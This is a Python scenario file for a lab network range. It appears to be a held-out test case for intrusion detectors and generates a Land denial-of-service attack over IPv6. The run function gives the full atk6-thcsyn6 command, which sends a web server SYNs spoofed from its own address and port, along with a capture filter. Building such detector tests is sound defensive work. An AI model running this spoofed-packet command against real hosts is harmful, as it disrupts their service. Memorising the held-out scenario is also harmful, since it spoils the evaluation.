"""Land over IPv6 by atk6-thcsyn6."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, web = net.inside("attacker"), net.web()
    net.everyday()
    with net.attack(
        "land",
        by=attacker,
        victims=[web.ip6],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"ip6 and ip6[6] == 6 and src host {web.ip6} and dst host {web.ip6}",
    ):
        net.tool(
            attacker,
            *f"atk6-thcsyn6 -i 300000 -s {web.ip6} -p 80 -m {web.mac} eth0 {web.ip6} 80".split(),
            seconds=9,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="land-held-ipv6",
    about="atk6-thcsyn6 sends a web server SYNs from its own IPv6 address and port, three a second.",
    detectors=("land",),
    tools={"atk6-thcsyn6": "thc-ipv6"},
    held_out=True,
    run=run,
)
